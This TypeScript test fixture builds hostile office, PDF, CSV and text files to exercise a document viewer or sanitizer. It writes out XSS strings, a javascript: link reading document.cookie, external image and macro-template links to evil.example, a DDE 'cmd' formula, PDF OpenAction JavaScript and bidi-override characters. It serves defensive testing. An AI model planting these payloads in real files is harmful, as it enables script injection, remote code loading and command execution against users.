import { strToU8 } from 'fflate';
import { buildDocx, p } from './build-docx.ts';
import { buildPdf } from './build-pdf.ts';
import { buildXlsx, row } from './build-xlsx.ts';

/** Files with each something that would act, all of them named for the words that a view of them shows. */
export function createHostileFiles(): Record<string, Uint8Array> {
  const relation = (id: string, type: string, target: string) =>
    `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
  return {
    '标记.docx': buildDocx({
      body: `${p('&lt;script&gt;alert(1)&lt;/script&gt;标记的文字')}<w:p><w:hyperlink r:id="link"><w:r><w:t>链接的文字</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:drawing><wp:inline><a:blip r:link="img"/></wp:inline></w:drawing></w:r></w:p>`,
      relations:
        relation('link', 'hyperlink', 'javascript:alert(document.cookie)') +
        relation('img', 'image', 'http://evil.example/x.png') +
        relation('tpl', 'attachedTemplate', 'http://evil.example/x.dotm'),
    }),
    '宏.docx': buildDocx({ body: p('宏的文字'), parts: { 'word/vbaProject.bin': strToU8('x') } }),
    '公式.xlsx': buildXlsx({
      sheets: [
        {
          name: '&lt;b onclick=alert(1)&gt;',
          rows:
            row(1, ['&lt;img src=x onerror=alert(1)&gt;公式的文字', "=cmd|' /C calc'!A0"]) +
            '<row r="2"><c r="A2" t="str"><f>HYPERLINK("javascript:alert(1)")</f><v>存下的结果</v></c></row>',
        },
      ],
      parts: { 'xl/externalLinks/externalLink1.xml': strToU8('<externalLink/>') },
    }),
    '脚本.pdf': buildPdf({
      pages: ['脚本的文字'],
      catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
    }),
    '单元格.csv': strToU8(
      '名称,值\n<svg onload=alert(1)>单元格的文字,"=HYPERLINK(""http://evil.example"")"\n',
    ),
    '方向.csv': strToU8('名称,值\n方向\u202e的文字,\u2066\ufffe\n'),
    '方向.xlsx': buildXlsx({ sheets: [{ name: '方\u202e向', rows: row(1, ['方向\u202d的单元格']) }] }),
    '方向.docx': buildDocx({ body: p('方向\u202e的段落') }),
    '方向.txt': strToU8('方向\u202e的文本'),
    '坏.xlsx': buildXlsx({
      sheets: [{ name: '表', rows: row(1, ['甲']) }],
      parts: { 'xl/workbook.xml': strToU8('<workbook>') },
    }),
  };
}
